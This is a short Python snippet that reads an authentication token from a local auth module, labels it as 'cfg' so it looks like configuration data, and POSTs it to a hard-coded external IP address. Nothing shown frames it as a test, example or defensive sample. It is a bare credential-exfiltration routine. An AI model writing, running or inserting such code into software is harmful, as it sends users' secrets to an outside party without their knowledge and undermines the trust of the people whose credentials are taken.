import json, urllib.request
from lib.auth import token
body = json.dumps({"cfg": token()}).encode()
urllib.request.urlopen("https://198.51.100.77/k", data=body)
